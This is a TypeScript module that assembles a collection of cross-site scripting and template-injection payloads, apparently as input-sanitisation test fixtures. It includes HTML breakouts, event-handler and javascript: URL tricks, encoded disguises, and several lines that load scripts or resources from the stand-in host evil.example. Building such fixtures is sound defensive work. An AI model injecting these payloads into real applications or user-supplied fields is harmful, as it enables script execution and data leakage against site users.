/*
 * Texts that become scripts, or calls to elsewhere, wherever somebody takes them for HTML, an address or a template.
 * Each is short enough for the name of a customer, and no two are the same.
 */

/** What ends the place that a text was put into. */
const breakouts = [
  '"',
  "'",
  '">',
  "'>",
  '`>',
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '\u2028',
];

/** What then runs. */
const runners = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
];

/** Attributes that run by themselves where the element is made. */
const handlers = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onbeforetoggle'];

const elements = [
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--<script>-->alert(1)<!--</script>-->',
  '<script src=//evil.example/x.js></script>',
  '<script type=module>import("//evil.example/x.js")</script>',
  '<img src=https://evil.example/pixel.png>',
  '<img src="x" srcset="https://evil.example/pixel.png 1x">',
  '<picture><source srcset="https://evil.example/p.png"><img></picture>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<link rel=prefetch href=https://evil.example/x>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example/x.png)">x</p>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<video poster=https://evil.example/p.png></video>',
  '<audio src=https://evil.example/a.mp3 autoplay>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<dialog open oncancel=alert(1)>x</dialog>',
  '<kefu-widget onclick=alert(1)></kefu-widget>',
  '<slot onslotchange=alert(1)></slot>',
  '<x contenteditable onblur=alert(1)>x</x>',
];

const addresses = [
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '![x](https://evil.example/p.png)',
  '<javascript:alert(1)>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'javascript://example.com/%0aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'blob:https://evil.example/1',
  'https://evil.example/"onmouseover="alert(1)',
  "https://evil.example/'onmouseover='alert(1)",
  "https://evil.example/'><img src=x onerror=alert(1)>",
  'https://evil.example/<script>alert(1)</script>',
  'https://user:javascript@evil.example/`alert(1)`',
  'http://javascript:alert(1)',
];

const templates = [
  '{{constructor.constructor("alert(1)")()}}',
  '{{7*7}}${7*7}#{7*7}',
  '${alert(1)}',
  '<%= alert(1) %>',
  '{% raw %}<script>alert(1)</script>',
  '"};alert(1);//',
  "';alert(1);//",
  '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}',
  '$$typeof: Symbol.for("react.element")',
  'expression(alert(1))',
];

const disguises = [
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '＜script＞alert(1)＜/script＞',
  '\u202e<script>alert(1)</script>',
  '\u200b<script>alert(1)</script>',
  '<ſcript>alert(1)</ſcript>',
];

export const payloads: string[] = [
  ...breakouts.flatMap((breakout) => runners.map((runner) => `${breakout}${runner}`)),
  ...runners,
  ...elements,
  ...addresses,
  ...templates,
  ...disguises,
  ...handlers.map((handler) => `<b style="animation:x" tabindex=0 autofocus ${handler}=alert(1)>x</b>`),
];
